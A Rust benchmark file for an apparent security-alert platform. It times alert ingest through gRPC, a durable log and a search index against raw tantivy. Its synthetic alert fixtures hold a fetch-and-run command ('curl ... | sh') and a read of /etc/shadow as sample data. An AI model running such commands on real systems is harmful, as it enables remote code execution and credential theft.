//! Alert ingest: alerts/s through gRPC import -> durable log -> search index (searchable),
//! against the limit of the same number of raw tantivy document additions with the same
//! schema in the same run.
//!
//!     cargo bench -p palisade-bench --bench ingest            # 100,000 alerts
//!     PALISADE_BENCH_ALERTS=20000 cargo bench -p palisade-bench --bench ingest

use std::time::Duration;

use tokio::time::Instant;

use palisade::platform;
use palisade_core::config::Config;
use palisade_core::log::{LogEntry, Topic};
use palisade_core::storage::Store;
use palisade_proto::prost_types::Timestamp;
use palisade_proto::v1::alert_service_client::AlertServiceClient;
use palisade_proto::v1::{Alert, Priority, PublishAlertsRequest};
use palisade_search::schema::IndexSchema;
use prost::Message;

const BATCH: usize = 1_000;
const PUBLISHERS: usize = 2;

fn realistic_alert(seq: usize) -> Alert {
    let namespaces = ["prod", "staging", "kube-system", "payments", "monitoring"];
    let rules = [
        (
            "Terminal shell in container",
            "A shell was spawned in a container with an attached terminal",
        ),
        (
            "Read sensitive file untrusted",
            "Sensitive file opened for reading by non-trusted program",
        ),
        (
            "Contact K8S API Server From Container",
            "Unexpected connection to K8s API Server from container",
        ),
        (
            "Drop and execute new binary in container",
            "Executing binary not part of base image",
        ),
    ];
    let (rule, text) = rules[seq % rules.len()];
    let namespace = namespaces[seq % namespaces.len()];
    let pod = format!("web-{}-{:05x}", seq % 97, seq % 4093);
    let fields = [
        (
            "proc.name",
            ["bash", "sh", "cat", "curl"][seq % 4].to_string(),
        ),
        (
            "proc.cmdline",
            format!(
                "bash -c 'curl http://10.0.{}.{}/x | sh'",
                seq % 255,
                seq % 251
            ),
        ),
        ("user.name", "root".to_string()),
        (
            "container.id",
            format!(
                "{:012x}",
                seq.wrapping_mul(2_654_435_761) & 0xffff_ffff_ffff
            ),
        ),
        (
            "container.image.repository",
            format!("registry.example.com/team-{}/api", seq % 13),
        ),
        ("container.image.tag", format!("1.{}.{}", seq % 7, seq % 31)),
        ("k8s.ns.name", namespace.to_string()),
        ("k8s.pod.name", pod.clone()),
        ("fd.name", "/etc/shadow".to_string()),
    ];
    Alert {
        rule: rule.into(),
        source: "syscall".into(),
        priority: [
            Priority::Warning,
            Priority::Notice,
            Priority::Critical,
            Priority::Error,
        ][seq % 4] as i32,
        output: format!("{text} (user=root pod={pod} ns={namespace} seq={seq})"),
        output_fields: fields
            .into_iter()
            .map(|(key, value)| (key.to_string(), value))
            .collect(),
        tags: vec!["container".into(), "mitre_execution".into(), "T1059".into()],
        time: Some(Timestamp {
            seconds: 1_790_000_000 + (seq as i64 / 10),
            nanos: (seq % 1_000_000_000) as i32,
        }),
        hostname: format!("node-{}", seq % 50),
        ..Default::default()
    }
}

fn alert_count() -> usize {
    std::env::var("PALISADE_BENCH_ALERTS")
        .ok()
        .and_then(|value| value.parse().ok())
        .unwrap_or(100_000)
}

/// gRPC publish -> log -> index, until every alert is searchable.
async fn through_the_platform(alerts: &[Alert]) -> anyhow::Result<Duration> {
    let temp = tempfile::tempdir()?;
    let config = Config {
        data_dir: temp.path().join("data"),
        grpc_listen: "127.0.0.1:0".parse()?,
        http_listen: "127.0.0.1:0".parse()?,
        agent_listen: "127.0.0.1:0".parse()?,
        // the ingest path is measured, not the transport's encryption
        tls: palisade_core::config::TlsConfig {
            mode: palisade_core::config::TlsMode::Off,
            ..Default::default()
        },
        ..Config::default()
    };
    let platform = platform::start(&config).await?;
    let token = std::fs::read_to_string(platform.admin_token_path())?
        .trim()
        .to_string();
    let channel =
        tonic::transport::Endpoint::from_shared(format!("http://{}", platform.grpc_address))?
            .connect()
            .await?;
    let header: tonic::metadata::MetadataValue<_> = format!("Bearer {token}").parse()?;
    let client =
        AlertServiceClient::with_interceptor(channel, move |mut request: tonic::Request<()>| {
            request
                .metadata_mut()
                .insert("authorization", header.clone());
            Ok(request)
        })
        .max_encoding_message_size(64 * 1024 * 1024);

    let started = Instant::now();
    let chunks: Vec<Vec<Alert>> = alerts.chunks(BATCH).map(<[Alert]>::to_vec).collect();
    let mut publishers = Vec::new();
    for publisher in 0..PUBLISHERS {
        let mut client = client.clone();
        let mine: Vec<Vec<Alert>> = chunks
            .iter()
            .skip(publisher)
            .step_by(PUBLISHERS)
            .cloned()
            .collect();
        publishers.push(tokio::spawn(async move {
            for batch in mine {
                client
                    .publish_alerts(PublishAlertsRequest { alerts: batch })
                    .await?;
            }
            Ok::<_, tonic::Status>(())
        }));
    }
    for publisher in publishers {
        publisher.await??;
    }
    let acknowledged = started.elapsed();
    let search = platform
        .search
        .clone()
        .ok_or_else(|| anyhow::anyhow!("the embedded platform runs search"))?;
    while search.status().indexed_offset < alerts.len() as u64 {
        tokio::time::sleep(Duration::from_millis(2)).await;
    }
    let searchable = started.elapsed();
    println!(
        "  platform: all acknowledged after {acknowledged:.2?}, all searchable after {searchable:.2?}"
    );
    platform.shutdown_signal().trigger();
    platform.run_until_shutdown().await?;
    Ok(searchable)
}

/// The durable log alone: the same records appended in the same batches.
async fn log_alone(alerts: &[Alert]) -> anyhow::Result<Duration> {
    let temp = tempfile::tempdir()?;
    let store = Store::open(temp.path())?;
    let topic = Topic::open(&store, "alerts")?;
    let started = Instant::now();
    for (index, batch) in alerts.chunks(BATCH).enumerate() {
        let entries = batch
            .iter()
            .enumerate()
            .map(|(offset, alert)| LogEntry {
                dedupe_key: Some(format!("bench/{index}-{offset}").into_bytes()),
                payload: alert.encode_to_vec(),
            })
            .collect();
        topic.append(entries).await?;
    }
    Ok(started.elapsed())
}

/// The limit: raw tantivy, same schema and documents, one writer thread like the service,
/// one commit at the end.
fn raw_tantivy(alerts: &[Alert]) -> anyhow::Result<Duration> {
    let temp = tempfile::tempdir()?;
    let schema = IndexSchema::new();
    let index = schema.open_or_create(temp.path())?;
    let mut writer: tantivy::IndexWriter =
        index.writer_with_num_threads(1, Config::default().search.writer_memory_bytes)?;
    let started = Instant::now();
    for (seq, alert) in alerts.iter().enumerate() {
        let mut alert = alert.clone();
        alert.tenant_id = "default".into();
        alert.id = format!("{seq:032x}");
        writer.add_document(schema.alert_document(&alert, seq as u64))?;
    }
    writer.commit()?;
    Ok(started.elapsed())
}

fn rate(count: usize, elapsed: Duration) -> f64 {
    count as f64 / elapsed.as_secs_f64()
}

fn main() -> anyhow::Result<()> {
    let count = alert_count();
    let alerts: Vec<Alert> = (0..count).map(realistic_alert).collect();
    let bytes: usize = alerts.iter().map(Message::encoded_len).sum();
    println!(
        "ingest benchmark: {count} alerts, {:.1} MB encoded",
        bytes as f64 / 1e6
    );
    let runtime = tokio::runtime::Builder::new_multi_thread()
        .enable_all()
        .build()?;
    let platform = runtime.block_on(through_the_platform(&alerts))?;
    let log = runtime.block_on(log_alone(&alerts))?;
    let tantivy = raw_tantivy(&alerts)?;
    println!();
    println!("| path | time | alerts/s | vs raw tantivy |");
    println!("| --- | ---: | ---: | ---: |");
    for (name, elapsed) in [
        (
            "palisade: gRPC import -> log -> index (searchable)",
            platform,
        ),
        ("durable log alone (append + flush per batch)", log),
        ("raw tantivy add_document + commit (limit)", tantivy),
    ] {
        println!(
            "| {name} | {elapsed:.2?} | {:.0} | {:.2} |",
            rate(count, elapsed),
            rate(count, elapsed) / rate(count, tantivy)
        );
    }
    Ok(())
}
